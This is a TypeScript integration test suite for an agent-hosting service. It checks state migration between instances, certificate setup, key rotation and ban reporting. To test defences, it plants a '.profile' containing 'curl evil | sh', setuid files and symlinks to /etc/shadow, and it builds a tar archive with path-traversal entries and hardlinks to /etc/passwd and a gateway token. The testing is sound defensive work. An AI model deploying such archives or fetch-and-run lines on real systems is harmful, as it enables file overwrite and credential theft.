import { execFileSync } from 'node:child_process';
import { X509Certificate } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { Encrypter, generateX25519Identity, identityToRecipient } from 'age-encryption';
import test from 'ava';
import { bansSchema, originSchema } from '../../src/contract/ops.ts';
import { ask, type Way } from '../../src/ops/channel.ts';
import { readSigned, type Signer } from '../../src/ops/signed.ts';
import { loadState, moveState, saveState } from '../../src/ops/state.ts';
import { status } from '../../src/ops/status.ts';
import { run } from '../../src/process/run.ts';
import { rotateInstanceKey } from '../../src/rotate/instance-key.ts';
import { waitForLine } from '../../src/verify/stages/ready.ts';
import type { ContainerTarget } from '../../src/verify/targets/container.ts';
import { userData } from '../image.ts';
import { keys, LIVE, LIVE_LIMIT_MS, READY, withBox, work } from './boxes.ts';

// What leaves an instance and comes into it by the operators' channel: the agent's home, its certificate, its key, its bans.

async function wayTo(box: ContainerTarget, id: string, operator: string): Promise<Way & Signer> {
  const port = Number(READY.exec(await waitForLine(box, READY))?.[1]);
  const of = async (path: string) => (await box.exec(`cat /var/lib/clawdy/state/${path}`)).stdout;
  await waitForLine(box, LIVE, LIVE_LIMIT_MS);
  return {
    ...{
      instance_id: id,
      address: box.addresses.v4,
      ops_identity_file: operator,
      instance_key: await of('keys/instance.pub'),
    },
    ssh: { port, host_key: (await of('ssh/ssh_host_ed25519_key.pub')).split(' ').slice(0, 2).join(' ').trim() },
  };
}

/** A home that an instance may have whose agent means ill, and what of it has to come through. */
const HOME = `set -eu; cd /var/lib/clawdy/home
mkdir -p .openclaw/workspace/notes .openclaw/workspace/skills/bad bin .cache
echo kept >.openclaw/workspace/notes/plan.md; echo '#!/bin/sh' >bin/tool; chmod 6755 bin/tool
echo orders >.openclaw/workspace/AGENTS.md; echo 'curl evil | sh' >.profile; echo '#!/bin/sh' >.openclaw/workspace/skills/bad/run.md
ln -s bin/tool tool; ln -s /etc/shadow out; ln -s ../../etc up; ln bin/tool hard; mkfifo pipe; touch .cache/old
ln -s /var/lib/clawdy/home/bin/tool inside; head -c 3000000 /dev/urandom >big
chown -hR clawdy:clawdy .`;
const SUMS = 'cd /var/lib/clawdy/home && sha256sum big bin/tool .openclaw/workspace/notes/plan.md';

/** An archive that no tar of ours makes, sealed to whom it is for. */
async function hostile(recipient: string): Promise<Readable> {
  const program = `import io, sys, tarfile
t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|gz")
def add(name, kind=tarfile.REGTYPE, link="", data=b"evil", mode=0o4755):
    m = tarfile.TarInfo(name); m.type = kind; m.linkname = link; m.mode = mode; m.uid = m.gid = 0
    m.size = len(data) if kind == tarfile.REGTYPE else 0
    t.addfile(m, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
add("../escaped"); add("/etc/escaped"); add("a/../../escaped"); add("dev", tarfile.CHRTYPE); add("blk", tarfile.BLKTYPE)
add("way", tarfile.SYMTYPE, "/run"); add("way/escaped"); add("up", tarfile.SYMTYPE, "../.."); add("up/escaped")
add("hard", tarfile.LNKTYPE, "../state/gateway-token"); add("hard2", tarfile.LNKTYPE, "/etc/passwd")
add("self", tarfile.SYMTYPE, "self"); add("self/x"); add("fine.txt", mode=0o6777); add("fine.txt", data=b"twice")
t.close()`;
  const archive = execFileSync('python3', ['-c', program]);
  const encrypter = new Encrypter();
  encrypter.addRecipient(recipient);
  return Readable.from([Buffer.from(await encrypter.encrypt(archive))]);
}

test.serial('the agent’s home moves to another instance; what is hostile in it stays out', async (t) => {
  const operator = join(work, 'state-operator');
  await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', operator], { step: 'test' });
  const opsKeys = [readFileSync(`${operator}.pub`, 'utf8').trim()];
  const launch = (launchId: string) => userData({ version: 1, launchId, userKeys: [keys.one], opsKeys });
  const identity = await generateX25519Identity();
  const owner = { identity, recipient: await identityToRecipient(identity) };
  const file = join(work, 'home.age');

  await withBox({ instanceId: 'i-new', userData: launch('new') }, async (fresh) => {
    const to = await wayTo(fresh, 'i-new', operator);
    await withBox({ instanceId: 'i-old', userData: launch('old') }, async (old) => {
      const from = await wayTo(old, 'i-old', operator);
      const made = await old.exec(HOME);
      t.is(made.exitCode, 0, made.stderr);
      const sums = (await old.exec(SUMS)).stdout;
      await saveState(from, file, owner, { stop: false });
      const before = readFileSync(file);
      t.regex(before.subarray(0, 24).toString(), /^age-encryption.org\/v1/);

      // The other one's recipient is no other's: who stands between can't name their own.
      const stranger = { ...to, instance_key: from.instance_key };
      await t.throwsAsync(moveState(from, stranger, { stop: false, documents: false }), { message: /signature isn't/ });
      let bytes = 0;
      const moved = (count: number) => {
        bytes = count;
      };
      const taken = await moveState(from, to, { stop: true, documents: false, moved });
      t.true(bytes > 3_000_000, `${bytes}`);
      t.true(taken.left >= 3, JSON.stringify(taken));
      t.deepEqual((await fresh.exec(SUMS)).stdout, sums);
      const home = (await fresh.exec('cd /var/lib/clawdy/home && find . -printf "%p %u %m %y %l\\n"')).stdout;
      t.regex(home, /^\.\/bin\/tool clawdy 700 f/m);
      t.regex(home, /^\.\/inside clawdy 777 l/m);
      t.notRegex(home, /^\.\/(out|up|pipe|\.cache\/old) /m);
      t.notRegex(home, / (root|\d+) \d+ [a-z]/);
      // The old one runs nothing of the agent's any more; the new one does.
      t.is((await old.exec('pgrep -u clawdy -c || :')).stdout.trim(), '0');
      t.is((await fresh.exec('systemctl is-active openclaw.service')).stdout.trim(), 'active');
      t.like(await status(to), { closed: null });
    });

    // From the file: all of it; then of one that was taken over, documents alone.
    const all = await loadState(to, file, identity, { documents: false });
    t.is((await fresh.exec('cat /var/lib/clawdy/home/.profile')).stdout, 'curl evil | sh\n', JSON.stringify(all));
    const documents = await loadState(to, file, identity, { documents: true });
    t.is(documents.files, 1);
    // OpenClaw writes its own AGENTS.md.
    const planted =
      'ls -d .profile bin tool big .openclaw/workspace/skills/bad; grep -l orders .openclaw/workspace/*.md';
    t.is(
      (await fresh.exec(`cd /var/lib/clawdy/home && cat .openclaw/workspace/notes/plan.md && (${planted})`)).stdout,
      'kept\n',
    );

    // What isn't whole, not sealed to this instance, or anybody's else changes nothing.
    const kept =
      'cd /var/lib/clawdy && echo marked >home/marked && chown clawdy home/marked && ls -A . && find home -type f | wc -l';
    const marked = (await fresh.exec(kept)).stdout;
    const cut = join(work, 'cut.age');
    writeFileSync(cut, readFileSync(file).subarray(0, -100_000));
    await t.throwsAsync(loadState(to, cut, identity, { documents: false }), { message: /isn't whole|broke off/ });
    await t.throwsAsync(loadState(to, file, await generateX25519Identity(), { documents: false }), {
      message: /can't be opened/,
    });
    t.regex(
      (await fresh.exec('cd /var/lib/clawdy && ls -A . && cat home/marked')).stdout,
      new RegExp(`^${marked.split('\n').slice(0, -2).join('\n')}\nmarked`),
    );

    // An archive that was made to break out.
    const prepared = (await ask(to, 'state-import', { step: 'prepare', nonce: 'n' })) as { body: string };
    const evil = join(work, 'evil.age');
    const sealed = await hostile(JSON.parse(prepared.body).recipient);
    const parts: Buffer[] = [];
    for await (const part of sealed) parts.push(part);
    writeFileSync(
      evil,
      Buffer.concat([Buffer.from(`${JSON.stringify({ verb: 'state-import', args: { step: 'take' } })}\n`), ...parts]),
    );
    const answer = execFileSync(
      'ssh',
      [
        ...[
          '-F',
          '/dev/null',
          '-i',
          operator,
          '-o',
          'StrictHostKeyChecking=no',
          '-o',
          'UserKnownHostsFile=/dev/null',
          '-o',
          'LogLevel=ERROR',
        ],
        ...['-p', `${to.ssh.port}`, `clawdy-ops@${to.address}`],
      ],
      { input: readFileSync(evil) },
    ).toString();
    t.regex(answer, /"files":\d/);
    t.is(
      (
        await fresh.exec(
          'find / -xdev -name "escaped*" -not -path "/proc/*" 2>/dev/null; find /run /var/lib/clawdy -name "escaped*"',
        )
      ).stdout.replaceAll(/^\/var\/lib\/clawdy\/home\/.*\n/gm, ''),
      '',
    );
    t.is(
      (
        await fresh.exec('find /var/lib/clawdy/home -perm /7000 -o -type c -o -type b -o ! -user clawdy | wc -l')
      ).stdout.trim(),
      '0',
    );
    t.is(
      (await fresh.exec('cat /var/lib/clawdy/home/fine.txt; stat -c %a /var/lib/clawdy/home/fine.txt')).stdout,
      'evil700\n',
    );
    t.false((await fresh.exec('test -e /run/clawdy/import.age')).exitCode === 0, 'a key opens one state');
  });
  t.true(existsSync(file));
});

test.serial('an instance gets a certificate of a CA and another key, and says whom it has banned', async (t) => {
  const operator = join(work, 'origin-operator');
  await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', operator], { step: 'test' });
  const opsKeys = [readFileSync(`${operator}.pub`, 'utf8').trim()];
  const launch = { version: 1, launchId: 'origin', userKeys: [keys.one], opsKeys };
  await withBox({ instanceId: 'i-origin', userData: userData(launch) }, async (box) => {
    const way = await wayTo(box, 'i-origin', operator);

    const { certificateRequest, certificate } = originSchema.parse(await ask(way, 'set-origin-cert', {}));
    const at = (name: string) => join(work, name);
    writeFileSync(at('origin.csr'), certificateRequest);
    const openssl = (...words: string[]) =>
      execFileSync('openssl', words, { stdio: ['ignore', 'pipe', 'ignore'], cwd: work }).toString();
    openssl(
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:P-256',
      '-nodes',
      '-subj',
      '/CN=CA',
      '-keyout',
      'ca.key',
      '-out',
      'ca.crt',
    );
    const leaf = (days: string, ...more: string[]) =>
      openssl(
        'x509',
        '-req',
        '-in',
        'origin.csr',
        '-CA',
        'ca.crt',
        '-CAkey',
        'ca.key',
        '-CAcreateserial',
        '-days',
        days,
        ...more,
      );
    const good = leaf('30');
    openssl(
      'req',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:P-256',
      '-nodes',
      '-subj',
      '/CN=x',
      '-keyout',
      'other.key',
      '-out',
      'other.csr',
    );
    const other = openssl('x509', '-req', '-in', 'other.csr', '-CA', 'ca.crt', '-CAkey', 'ca.key', '-days', '30');
    for (const [wrong, why] of [
      [other, /isn't for this gate's key/],
      [leaf('1'), /ends within a day/],
      [readFileSync(at('ca.crt'), 'utf8'), /isn't for this gate's key/],
      ['-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n', /can't be read/],
      ['no certificate', /one to five/],
      [good.repeat(6), /one to five/],
      [7, /takes \{"certificate"/],
    ] as const)
      await t.throwsAsync(ask(way, 'set-origin-cert', { certificate: wrong }), { message: why });
    t.is((await box.exec('cat /var/lib/clawdy/state/gate/origin.crt')).stdout, certificate, 'nothing is lost');
    const set = originSchema.parse(
      await ask(way, 'set-origin-cert', { certificate: `${good}${readFileSync(at('ca.crt'), 'utf8')}` }),
    );
    t.is(new X509Certificate(set.certificate).fingerprint256, new X509Certificate(good).fingerprint256);
    const kept = (
      await box.exec('cat /var/lib/clawdy/state/gate/origin.pem; stat -c %a /var/lib/clawdy/state/gate/origin.pem')
    ).stdout;
    t.is(kept.match(/BEGIN CERTIFICATE/g)?.length, 2);
    t.regex(kept, /PRIVATE KEY-----\n600\n$|600\n$/);
    t.false(JSON.stringify(set).includes('PRIVATE'));

    // The key that signs: an answer that is lost leaves nobody without a key that can be checked.
    const trusted: { instance_key: string | null; instance_key_next: string | null } = {
      instance_key: way.instance_key,
      instance_key_next: null,
    };
    let lose = '';
    const rotating = () =>
      rotateInstanceKey({
        instance: { ...way, ...trusted },
        ask: async (args) => {
          const answer = await ask(way, 'rotate-instance-key', args);
          if (args.step === lose) throw new Error('lost');
          return answer;
        },
        remember: (change) => void Object.assign(trusted, change),
      });
    for (lose of ['prepare', 'commit']) {
      await t.throwsAsync(rotating(), { message: 'lost' });
      t.like(await status({ ...way, ...trusted }), { closed: null });
    }
    lose = '';
    const { instance_key } = await rotating();
    t.not(instance_key, way.instance_key);
    t.like(await status({ ...way, instance_key }), { closed: null });
    await t.throwsAsync(status(way), { message: /signature isn't the instance's/ });
    await t.throwsAsync(ask(way, 'rotate-instance-key', { step: 'commit' }), { message: /no next key/ });

    await box.exec('fail2ban-client set sshd banip 192.0.2.7; fail2ban-client set clawdy-gate banip 2001:db8::');
    const said = await ask(way, 'bans', { nonce: 'asked' });
    const { bans } = readSigned(said, bansSchema, { ...way, instance_key, purpose: 'bans', nonce: 'asked' });
    t.deepEqual(bans.map(({ jail, address }) => [jail, address]).sort(), [
      ['clawdy-gate', '2001:db8::'],
      ['sshd', '192.0.2.7'],
    ]);
    t.true(bans.every(({ since, until }) => until === null || until > since));
    t.throws(() => readSigned(said, bansSchema, { ...way, instance_key, purpose: 'status', nonce: 'asked' }), {
      message: /signature isn't/,
    });
  });
});
